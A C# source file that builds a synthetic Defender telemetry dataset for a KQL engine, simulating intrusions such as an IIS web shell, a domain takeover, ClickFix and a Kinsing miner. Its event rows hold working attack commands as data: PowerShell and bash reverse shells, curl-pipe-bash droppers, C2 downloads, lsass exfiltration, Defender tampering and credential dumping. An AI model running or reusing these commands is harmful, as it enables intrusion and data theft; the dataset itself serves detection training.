using System;
using System.Collections.Generic;
using System.Linq;
using System.Text;

namespace Defender365Typed.KqlEngine;

public sealed partial class SyntheticDataset
{
    /// <summary>
    /// Hands-on-keyboard activity on the endpoints, added after the other tables: what the RDP brute force on srv-web-01
    /// led to (a new domain admin, Defender tampering, BloodHound and Kerberoasting, WMI and PsExec to the file server,
    /// anti-recovery and credential theft there and on the domain controller, staging and rclone exfiltration), a web
    /// shell under IIS on the same server, more of alice's compromised workstation (Office spawning LOLBins, encoded
    /// reconnaissance, ticket theft), a ClickFix lure on the HR workstation and a Kinsing cryptominer on the Linux build
    /// server.
    /// </summary>
    private sealed partial class Builder
    {
        /// <summary>When the intruder on srv-web-01 starts working, eight minutes after the brute-forced RDP logon of RdpBruteForce.</summary>
        private DateTime TakeoverStart => new DateTime(now.Ticks - (now.Ticks % TimeSpan.TicksPerHour), DateTimeKind.Utc) - TimeSpan.FromHours(5) + TimeSpan.FromMinutes(35);

        private static string EncodedCommand(string script) => Convert.ToBase64String(Encoding.Unicode.GetBytes(script));

        private Dictionary<string, object?> Child(DateTime t, Device d, User u, string file, string folder, string command, Dictionary<string, object?> parent,
            string integrity = "High", string company = "Microsoft Corporation")
        {
            Dictionary<string, object?> r = Process(t, d, u, file, folder, command, (string)parent["FileName"]!, (string)parent["ProcessCommandLine"]!, integrity,
                company: company, parentPid: (long)parent["ProcessId"]!);
            r["InitiatingProcessParentFileName"] = parent["InitiatingProcessFileName"];
            r["InitiatingProcessParentId"] = parent["InitiatingProcessId"];
            r["InitiatingProcessFolderPath"] = parent["FolderPath"];
            r["InitiatingProcessSHA256"] = parent["SHA256"];
            r["InitiatingProcessSHA1"] = parent["SHA1"];
            return r;
        }

        private void HandsOnKeyboard()
        {
            WebShell();
            DomainTakeover();
            MoreOnTheFinanceWorkstation();
            ClickFix();
            Kinsing();
        }

        private void WebShell()
        {
            Device web = DeviceNamed("srv-web-01");
            var pool = new User("defaultapppool", "IIS APPPOOL", "S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415", "", "", "DefaultAppPool");
            DateTime t = now - TimeSpan.FromHours(6);
            File(t, web, pool, "FileCreated", "help.aspx", @"C:\inetpub\wwwroot\aspnet_client", 2_311, "w3wp.exe");
            Dictionary<string, object?> w3wp = Process(t - TimeSpan.FromHours(30), web, pool, "w3wp.exe", @"C:\Windows\System32\inetsrv",
                "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\" -v \"v4.0\" -l \"webengine4.dll\"", "svchost.exe", integrity: "High");
            string[] commands = ["cmd.exe /c whoami /priv", "cmd.exe /c systeminfo", "cmd.exe /c ipconfig /all", "cmd.exe /c ping -n 1 srv-dc-01", "cmd.exe /c cd %temp% && dir"];
            for (int i = 0; i < commands.Length; i++)
            {
                Dictionary<string, object?> cmd = Child(t + TimeSpan.FromMinutes(2 * i), web, pool, "cmd.exe", @"C:\Windows\System32", commands[i], w3wp);
                if (i == 0)
                {
                    Child(t + TimeSpan.FromSeconds(3), web, pool, "whoami.exe", @"C:\Windows\System32", "whoami  /priv", cmd);
                }
            }

            Dictionary<string, object?> shell = Child(t + TimeSpan.FromMinutes(12), web, pool, "cmd.exe", @"C:\Windows\System32",
                "cmd.exe /c powershell.exe -nop -c \"certutil -urlcache -f http://" + C2Ip + "/x.exe %temp%\\x.exe\"", w3wp);
            Child(t + TimeSpan.FromMinutes(12.1), web, pool, "powershell.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0",
                "powershell.exe -nop -c \"certutil -urlcache -f http://" + C2Ip + "/x.exe %temp%\\x.exe\"", shell);
        }

        private void DomainTakeover()
        {
            Device web = DeviceNamed("srv-web-01"), files = DeviceNamed("srv-file-01"), dc = DeviceNamed("srv-dc-01");
            User dave = UserNamed("dave");
            DateTime t = TakeoverStart;
            Dictionary<string, object?> cmd = Process(t, web, dave, "cmd.exe", @"C:\Windows\System32", "\"C:\\Windows\\system32\\cmd.exe\"", "explorer.exe", integrity: "High");
            void Run(double minutes, string file, string folder, string command, string company = "Microsoft Corporation") =>
                Child(t + TimeSpan.FromMinutes(minutes), web, dave, file, folder, command, cmd, company: company);

            // A new domain admin, the firewall opened for RDP, Defender told to look away.
            Run(1, "net.exe", @"C:\Windows\System32", "net.exe user helpdesk-tmp Summer2025! /add /domain");
            Run(1.5, "net.exe", @"C:\Windows\System32", "net.exe group \"Domain Admins\" helpdesk-tmp /add /domain");
            Run(2, "net.exe", @"C:\Windows\System32", "net.exe group \"Enterprise Admins\" helpdesk-tmp /add /domain");
            Run(2.5, "net.exe", @"C:\Windows\System32", "net.exe localgroup administrators helpdesk-tmp /add");
            Run(3, "netsh.exe", @"C:\Windows\System32", "netsh.exe advfirewall firewall add rule name=\"Remote Desktop\" dir=in action=allow protocol=TCP localport=3389");
            Run(3.5, "netsh.exe", @"C:\Windows\System32", "netsh.exe advfirewall set allprofiles state off");
            Run(4, "powershell.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0", "powershell.exe -c \"Get-MpPreference | Select-Object -Property Exclusion*\"");
            Run(4.5, "powershell.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0",
                "powershell.exe -c \"Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\Windows\\Temp -ExclusionProcess PSEXESVC.exe\"");
            Run(5, "runas.exe", @"C:\Windows\System32", "runas.exe /savecred /user:CONTOSO\\helpdesk-tmp cmd.exe");

            // Reconnaissance and Kerberoasting.
            Run(8, "powershell.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0",
                "powershell.exe -ep bypass -c \"Import-Module C:\\Windows\\Temp\\SharpHound.ps1; Invoke-BloodHound -CollectionMethod All -Domain contoso.local -ZipFileName loot.zip\"");
            Run(10, "nbtscan.exe", @"C:\Windows\Temp", "nbtscan.exe 10.0.1.0/24", company: "");
            Run(12, "rubeus.exe", @"C:\Windows\Temp", "rubeus.exe kerberoast /outfile:C:\\Windows\\Temp\\hashes.txt", company: "");
            Run(13, "rubeus.exe", @"C:\Windows\Temp", "rubeus.exe asktgt /user:helpdesk-tmp /password:Summer2025! /ptt", company: "");

            // WMI and PsExec to the file server.
            string reverse = "$c=New-Object System.Net.Sockets.TCPClient('" + C2Ip + "',4444);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};"
                + "while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);"
                + "$o=([text.encoding]::ASCII).GetBytes($r+'PS> ');$s.Write($o,0,$o.Length)}";
            Run(20, "WMIC.exe", @"C:\Windows\System32\wbem", "wmic.exe /node:" + files.Ip + " process call create \"powershell.exe -nop -w hidden -e " + EncodedCommand(reverse) + "\"");
            Dictionary<string, object?> wmiprvse = Process(t + TimeSpan.FromMinutes(20.1), files, dave, "wmiprvse.exe", @"C:\Windows\System32\wbem",
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "svchost.exe", integrity: "High");
            Dictionary<string, object?> ps = Child(t + TimeSpan.FromMinutes(20.2), files, dave, "powershell.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0",
                "powershell.exe -nop -w hidden -e " + EncodedCommand(reverse), wmiprvse);
            Connection(t + TimeSpan.FromMinutes(20.3), files, C2Ip, 4444, "", "powershell.exe", (long)ps["ProcessId"]!, dave);

            Run(25, "PsExec.exe", @"C:\Windows\Temp", "psexec.exe \\\\srv-file-01 -accepteula -s -c C:\\Windows\\Temp\\deploy.bat", company: "Sysinternals - www.sysinternals.com");
            Dictionary<string, object?> psexesvc = Process(t + TimeSpan.FromMinutes(25.1), files, dave, "PSEXESVC.exe", @"C:\Windows",
                "C:\\Windows\\PSEXESVC.exe", "services.exe", integrity: "System", company: "Sysinternals - www.sysinternals.com");
            Dictionary<string, object?> bat = Child(t + TimeSpan.FromMinutes(25.2), files, dave, "cmd.exe", @"C:\Windows\System32",
                "cmd.exe /c \"C:\\Windows\\deploy.bat\"", psexesvc, integrity: "System");
            void OnFiles(double minutes, string file, string folder, string command, Dictionary<string, object?> parent) =>
                Child(t + TimeSpan.FromMinutes(minutes), files, dave, file, folder, command, parent, integrity: "System");
            OnFiles(25.3, "powershell.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0", "powershell.exe Set-MpPreference -DisableIOAVProtection $true -DisableRealtimeMonitoring $true", bat);
            OnFiles(25.4, "powershell.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0",
                "powershell.exe -c \"stop-service -name MSSQLSERVER,SQLWriter,MSExchangeIS,MSExchangeTransport -force\"", psexesvc);
            OnFiles(25.5, "cmd.exe", @"C:\Windows\System32", "cmd.exe /c attrib -s -h -r -a *.* /s /d", bat);

            // Anti-recovery and credential theft on the file server, before the encryption of the Ransomware story.
            OnFiles(26, "wevtutil.exe", @"C:\Windows\System32", "wevtutil.exe cl Security", bat);
            OnFiles(26.2, "wevtutil.exe", @"C:\Windows\System32", "wevtutil.exe cl System", bat);
            OnFiles(26.4, "fsutil.exe", @"C:\Windows\System32", "fsutil.exe usn deletejournal /d C:", bat);
            OnFiles(26.6, "schtasks.exe", @"C:\Windows\System32", "schtasks.exe /Change /TN \"\\Microsoft\\Windows\\SystemRestore\\SR\" /disable", bat);
            OnFiles(27, "reg.exe", @"C:\Windows\System32", "reg.exe add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f", bat);
            OnFiles(27.5, "reg.exe", @"C:\Windows\System32", "reg.exe save hklm\\sam C:\\Windows\\Temp\\sam.save", bat);
            OnFiles(27.6, "reg.exe", @"C:\Windows\System32", "reg.exe save hklm\\system C:\\Windows\\Temp\\system.save", bat);
            OnFiles(28, "cipher.exe", @"C:\Windows\System32", "cipher.exe /w:C:\\ProgramData", bat);
            OnFiles(29, "cipher.exe", @"C:\Windows\System32", "cipher.exe /w:D:\\", bat);

            // The domain controller's database copied with ntdsutil.
            Dictionary<string, object?> dcShell = Process(t + TimeSpan.FromMinutes(35), dc, dave, "cmd.exe", @"C:\Windows\System32", "cmd.exe", "explorer.exe", integrity: "High");
            Child(t + TimeSpan.FromMinutes(36), dc, dave, "ntdsutil.exe", @"C:\Windows\System32", "ntdsutil.exe \"ac i ntds\" \"ifm\" \"create full C:\\ProgramData\\ntds\" q q", dcShell);

            // Staging and exfiltration with a renamed rclone.
            Run(40, "7z.exe", @"C:\Program Files\7-Zip", "7z.exe a C:\\ProgramData\\pst\\finance.7z \\\\srv-file-01\\share\\finance -pInfected2025 -mhe=on", company: "Igor Pavlov");
            Dictionary<string, object?> rclone = Child(t + TimeSpan.FromMinutes(45), web, dave, "svcupd.exe", @"C:\ProgramData",
                "svcupd.exe copy C:\\ProgramData\\pst mega:finance-dump --transfers 8 -q --ignore-existing", cmd, company: "https://rclone.org");
            rclone["ProcessVersionInfoProductName"] = "Rclone";
            rclone["ProcessVersionInfoOriginalFileName"] = "rclone.exe";
            Connection(t + TimeSpan.FromMinutes(45.2), web, "31.216.145.5", 443, "g.api.mega.co.nz", "svcupd.exe", (long)rclone["ProcessId"]!, dave);
        }

        private void MoreOnTheFinanceWorkstation()
        {
            Device ws = DeviceNamed("ws-finance-01");
            User alice = UserNamed("alice");
            DateTime t = now - TimeSpan.FromMinutes(70);
            Dictionary<string, object?> word = _rows["DeviceProcessEvents"].First(p => (string)p["FileName"]! == "winword.exe"
                && ((string)p["ProcessCommandLine"]!).Contains("Invoice_4471", StringComparison.Ordinal));
            Child(t, ws, alice, "regsvr32.exe", @"C:\Windows\System32", "regsvr32.exe /s C:\\Users\\alice\\AppData\\Local\\Temp\\invoice.ocx", word, integrity: "Medium");
            Child(t + TimeSpan.FromMinutes(1), ws, alice, "wmic.exe", @"C:\Windows\System32\wbem",
                "wmic.exe process call create \"rundll32.exe C:\\Users\\alice\\AppData\\Local\\Temp\\invoice.ocx,DllRegisterServer\"", word, integrity: "Medium");
            Child(t + TimeSpan.FromMinutes(1.5), ws, alice, "cmd.exe", @"C:\Windows\System32", "cmd.exe /c mshta.exe C:\\Users\\alice\\AppData\\Local\\Temp\\update.hta", word, integrity: "Medium");

            // Encoded reconnaissance, an old PowerShell engine, a script run and removed, and exfiltration by POST.
            Dictionary<string, object?> explorer = Process(t - TimeSpan.FromHours(3), ws, alice, "explorer.exe", @"C:\Windows", "C:\\Windows\\Explorer.EXE", "userinit.exe", integrity: "Medium");
            void Run(double minutes, string command) =>
                Child(t + TimeSpan.FromMinutes(minutes), ws, alice, "powershell.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0", command, explorer, integrity: "Medium");
            Child(t + TimeSpan.FromMinutes(3), ws, alice, "cmd.exe", @"C:\Windows\System32",
                "cmd.exe /c powershell.exe -NoP -W Hidden -enc " + EncodedCommand("whoami /all; net group \"Domain Admins\" /domain; systeminfo; Get-ADComputer -Filter * | Select Name"),
                explorer, integrity: "Medium");
            Run(4, "powershell.exe -version 2 -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://" + C2Url + "/b.ps1')\"");
            Run(5, "powershell.exe -ep bypass -command \"get-content C:\\Users\\Public\\s.txt | iex; remove-item C:\\Users\\Public\\s.txt\"");
            Run(6, "powershell.exe -c \"iwr -Uri https://" + C2Url + "/upload -met POST -Body (Get-Content C:\\Users\\Public\\lsass.dmp -Raw)\"");
            Child(t + TimeSpan.FromMinutes(7), ws, alice, "esentutl.exe", @"C:\Windows\System32",
                "esentutl.exe /y /vss C:\\Users\\alice\\AppData\\Local\\Microsoft\\Windows\\WebCache\\WebCacheV01.dat /d C:\\Users\\Public\\wc.dat", explorer, integrity: "Medium");
            Dictionary<string, object?> mimi = _rows["DeviceProcessEvents"].First(p => (string)p["FileName"]! == "mimi.exe");
            Child(t + TimeSpan.FromMinutes(8), ws, alice, "mimi.exe", @"C:\Temp", "mimi.exe \"privilege::debug\" \"sekurlsa::tickets /export\" exit", mimi, company: "");
            Child(t + TimeSpan.FromMinutes(9), ws, alice, "mimi.exe", @"C:\Temp", "mimi.exe \"kerberos::ptt C:\\Temp\\dave@krbtgt.kirbi\" exit", mimi, company: "");
        }

        private void ClickFix()
        {
            // A fake CAPTCHA page tells grace to paste a command into the Run dialog (Win+R), which records it in RunMRU.
            Device hr = DeviceNamed("ws-hr-02");
            User grace = UserNamed("grace");
            DateTime t = now - TimeSpan.FromHours(2.5);
            const string lure = "powershell -w hidden -c \"iwr https://captcha-check.cloud-verify.net/v.ps1 | iex\" # I am not a robot - reCAPTCHA Verification ID 4417";
            Dictionary<string, object?> run = Add("DeviceRegistryEvents", t);
            run["DeviceId"] = hr.Id;
            run["DeviceName"] = hr.Name;
            run["ActionType"] = "RegistryValueSet";
            run["RegistryKey"] = @"HKEY_CURRENT_USER\S-1-5-21-1004336348-1177238915-682003330-1110\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU";
            run["RegistryValueType"] = "String";
            run["RegistryValueName"] = "a";
            run["RegistryValueData"] = lure + "\\1";
            run["InitiatingProcessFileName"] = "explorer.exe";
            run["InitiatingProcessCommandLine"] = "C:\\Windows\\Explorer.EXE";
            run["InitiatingProcessAccountDomain"] = grace.Domain;
            run["InitiatingProcessAccountName"] = grace.Name;
            run["InitiatingProcessAccountSid"] = grace.Sid;
            run["ReportId"] = _reportId++;
            Dictionary<string, object?> explorer = Process(t - TimeSpan.FromHours(2), hr, grace, "explorer.exe", @"C:\Windows", "C:\\Windows\\Explorer.EXE", "userinit.exe");
            Dictionary<string, object?> ps = Child(t + TimeSpan.FromSeconds(1), hr, grace, "powershell.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0", lure, explorer, integrity: "Medium");
            Connection(t + TimeSpan.FromSeconds(3), hr, "104.21.48.11", 443, "captcha-check.cloud-verify.net", "powershell.exe", (long)ps["ProcessId"]!, grace);
            Dictionary<string, object?> chrome = _rows["DeviceProcessEvents"].First(p => (string)p["FileName"]! == "chrome.exe" && (string)p["DeviceName"]! == hr.Name);
            Child(t - TimeSpan.FromMinutes(1), hr, grace, "cmd.exe", @"C:\Windows\System32", "cmd.exe /c start ms-settings:", chrome, integrity: "Medium");
        }

        private void Kinsing()
        {
            // The internet-facing build server: a web exploit drops a script that stops AppArmor, fetches a miner and opens a shell.
            Device build = DeviceNamed("linux-build-01");
            var root = new User("root", "linux-build-01", "", "", "", "root");
            DateTime t = now - TimeSpan.FromHours(10);
            Dictionary<string, object?> Linux(double minutes, string file, string folder, string command, string parentFile, string parentCommand)
            {
                Dictionary<string, object?> r = Process(t + TimeSpan.FromMinutes(minutes), build, root, file, folder, command, parentFile, parentCommand, "High", company: "");
                r["FolderPath"] = folder + "/" + file;
                r["InitiatingProcessFolderPath"] = "/usr/bin/" + parentFile;
                r["InitiatingProcessParentFileName"] = "java";
                r["AccountDomain"] = build.Name;
                r["AccountSid"] = "";
                return r;
            }

            string dropper = "curl -fsSL http://195.3.146.118/d.sh | bash";
            Linux(0, "bash", "/usr/bin", "/bin/bash -c \"" + dropper + "\"", "java", "java -jar /opt/jenkins/jenkins.war");
            Linux(0.5, "bash", "/usr/bin", "/bin/bash /tmp/d.sh", "bash", "/bin/bash -c \"" + dropper + "\"");
            Linux(1, "service", "/usr/sbin", "service apparmor stop", "bash", "/bin/bash /tmp/d.sh");
            Linux(1.2, "ufw", "/usr/sbin", "ufw disable", "bash", "/bin/bash /tmp/d.sh");
            Linux(1.5, "curl", "/usr/bin", "curl -s http://195.3.146.118/kinsing -o /etc/kinsing", "bash", "/bin/bash /tmp/d.sh");
            Linux(2, "usermod", "/usr/sbin", "usermod -aG sudo deploy", "bash", "/bin/bash /tmp/d.sh");
            Linux(2.5, "bash", "/usr/bin", "/bin/bash -c \"echo Y3VybCAtcyBodHRwOi8vMTk1LjMuMTQ2LjExOC9rIHwgc2g= | base64 --decode | sh\"", "bash", "/bin/bash /tmp/d.sh");
            Dictionary<string, object?> shell = Linux(3, "bash", "/usr/bin", "bash -i >& /dev/tcp/" + C2Ip + "/4444 0>&1", "bash", "/bin/bash /tmp/d.sh");
            Connection(t + TimeSpan.FromMinutes(3.1), build, C2Ip, 4444, "", "bash", (long)shell["ProcessId"]!, root)["InitiatingProcessFolderPath"] = "/usr/bin/bash";
            Dictionary<string, object?> miner = Linux(4, "kinsing", "/etc", "/etc/kinsing", "bash", "/bin/bash /tmp/d.sh");
            Connection(t + TimeSpan.FromMinutes(4.1), build, "45.10.88.124", 3333, "pool.minexmr.com", "kinsing", (long)miner["ProcessId"]!, root)["InitiatingProcessFolderPath"] = "/etc/kinsing";
        }
    }
}
